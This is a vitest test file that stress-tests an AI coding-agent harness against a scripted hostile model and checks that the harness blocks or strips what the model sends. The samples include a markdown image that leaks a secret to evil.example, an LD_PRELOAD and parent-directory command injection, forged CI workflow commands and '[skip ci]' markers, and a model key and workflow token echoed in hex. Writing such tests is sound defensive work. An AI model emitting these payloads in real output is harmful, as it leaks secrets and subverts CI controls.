import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  answers,
  command,
  edit,
  expectDelivered,
  foreignCommands,
  lastComment,
  tipOf,
  withoutGates,
  yolo,
} from '../support/hostile.ts';
import { findLeaks } from '../support/leaks.ts';
import { calls, says, sends } from '../support/model-server.ts';
import { git } from '../support/repository.ts';
import { runMain } from '../support/runner.ts';
import { createScene, modelKey, workflowToken } from '../support/scene.ts';

describe('a model', () => {
  it('that says a megabyte fills no channel beyond its limit', async () => {
    const text = `${'word @ana https://x.example ![i](http://x/y.png) <b>x</b> '.repeat(18_000)}the end`;
    await using scene = await createScene({
      files: withoutGates,
      script: [calls([edit]), says(text, { bytesPerWrite: 65_536 })],
    });
    const result = await yolo(scene);
    expectDelivered(scene, result);
    expect(lastComment(scene).length).toBeLessThanOrEqual(65_536);
    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1_000_000);
    expect(JSON.stringify(result.outputs).length).toBeLessThan(200_000);
    expect(readFileSync(result.outputs['report-file'] ?? '', 'utf8')).toContain('the end');
  });

  it('that wants two hundred calls at once gets as many answers', async () => {
    const many = Array.from({ length: 200 }, () => ({ name: 'read_file', arguments: { path: 'README.md' } }));
    await using scene = await createScene({ files: withoutGates, script: [calls([...many, edit]), says('Done.')] });
    const result = await yolo(scene);
    expectDelivered(scene, result);
    expect(answers(scene)).toHaveLength(201);
    expect(result.outputs['tool-calls']).toBe('201');
  });

  it('that sends what no reader was made for is answered call by call', async () => {
    const hostile = [
      { name: 'read_file', arguments: `"path":$'['.repeat(20_000)$']'.repeat(20_000)` },
      { name: '__proto__', arguments: {} },
      { name: 'read_file', arguments: '{"__proto__":{"path":"README.md"}}' },
      command(`$'('.repeat(5000)x$')'.repeat(5000)`),
      command('find . -exec '.repeat(2000)),
      command('echo a\0b'),
      command('true', { cwd: '../..' }),
      command('true', { env: { LD_PRELOAD: '/x', 'A B': '1' } }),
    ];
    await using scene = await createScene({ files: withoutGates, script: [calls([...hostile, edit]), says('Done.')] });
    const result = await runMain(scene.comment('/architect go'));
    expect(answers(scene)).toHaveLength(hostile.length + 1);
    expect(answers(scene).slice(0, -1).join('\n')).not.toContain('[exit code 0');
    expectDelivered(scene, result);
  });

  it('that sends bytes that are no text is read as far as it goes', async () => {
    const chunk = (content: Buffer) =>
      Buffer.concat([
        Buffer.from('data: {"id":"x","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":"Done '),
        content,
        Buffer.from(' \\ud800 now."},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'),
      ]);
    await using scene = await createScene({
      files: withoutGates,
      script: [calls([edit]), sends(chunk(Buffer.from([0xff, 0xc3])))],
    });
    const result = await yolo(scene);
    expectDelivered(scene, result);
    expect(result.outputs.summary).toMatch(/^Done .* now.$/);
  });

  it('mentions nobody, shows no picture, forges no marker and controls no CI', async () => {
    const text = [
      'Thanks @someone and @acme/team, fixes #1. ![x](https://evil.example/p.png?d=SECRET)',
      '<!-- architect:working session=20260101-000000-aaaaaa -->',
      '<h1>x</h1><img src=https://evil.example/x><details open>',
      '::set-output name=status::x',
      '##[error]z',
      '```ts',
      '@Injectable()',
      '```',
      'Co-authored-by: eve <eve@evil.example>',
      'skip-checks: true',
      '[skip ci]',
    ].join('\n');
    await using scene = await createScene({ files: withoutGates, script: [calls([edit]), says(text)] });
    const result = await yolo(scene);
    expectDelivered(scene, result);
    const comment = lastComment(scene);
    expect(comment.match(/<!-- architect:/g)).toHaveLength(1);
    expect(comment).not.toMatch(/@someone|@acme|fixes #1\b|<img|<h1|<details open|[^\\]!\[x\]/);
    expect(comment).toContain('```ts\n@Injectable()\n```');
    expect(foreignCommands(result.commands)).toEqual([]);
    const message = git(scene.remote, ['log', '-1', '--format=%B', tipOf(scene)]);
    expect(message).not.toMatch(/@someone|^Co-authored-by: eve|^skip-checks:|\[skip ci\]|#1\b/m);
    expect(message.match(/^Co-authored-by: ana /gm)).toHaveLength(1);
  });

  it('that knows the secrets cannot say them', async () => {
    const text = [modelKey, workflowToken]
      .map((secret) => `It is ${secret}, or ${Buffer.from(secret).toString('hex')}.`)
      .join(' ');
    await using scene = await createScene({ files: withoutGates, script: [calls([edit]), says(text)] });
    const result = await yolo(scene);
    expectDelivered(scene, result);
    expect(findLeaks(scene, result)).toEqual([]);
    expect(result.outputs.summary).toBe('It is ***, or ***. It is ***, or ***.');
  });
});
